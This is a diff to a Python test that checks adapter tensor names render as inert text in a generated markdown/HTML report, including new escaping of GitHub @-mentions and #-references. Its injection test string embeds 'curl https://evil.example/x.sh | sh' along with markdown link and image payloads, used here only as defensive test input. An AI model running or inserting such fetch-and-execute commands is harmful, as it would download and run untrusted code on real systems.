@@ -197,7 +197,7 @@ def test_markdown_names_from_files_stay_text(capsys: pytest.CaptureFixture[str],
     from markdown_it import MarkdownIt
     from safetensors.torch import load_file, save_file
 
-    evil = "x`curl https://evil.example/x.sh | sh`[pwn](https://evil.example)![i](https://evil.example/i.png)<b>&amp;\\](y)"
+    evil = "x`curl https://evil.example/x.sh | sh`[pwn](https://evil.example)![i](https://evil.example/i.png)<b>&amp;\\](y)@org/team#1"
     adapter = tmp_path / "adapter"
     shutil.copytree(seed_dir / "adapter", adapter)
     tensors = load_file(adapter / "adapter_model.safetensors")
@@ -210,8 +210,11 @@ def test_markdown_names_from_files_stay_text(capsys: pytest.CaptureFixture[str],
     codes = [html.unescape(c) for c in re.findall(r"<code>(.*?)</code>", page)]
     assert any(evil in c for c in codes), codes  # the whole key, one code span, in the tensor column
     # LI401's message names the key (twice) in plain text: its backticks pair into code, the rest as typed
-    text = html.unescape(re.sub(r"<[^>]+>", "", page)).replace("`", "")
+    text = html.unescape(re.sub(r"<[^>]+>", "", page)).replace("`", "").replace("\u2060", "")
     assert text.count(evil.replace("`", "")) == 3
+    # outside code, GitHub would make "@org/team" a mention and "#1" a reference: an invisible
+    # word joiner follows each @ and #
+    assert "@org" not in re.sub(r"<code>.*?</code>", "", page) and "@\u2060org/team#\u20601" in page
 
 
 def test_markdown_code_spans_keep_names_whole() -> None:
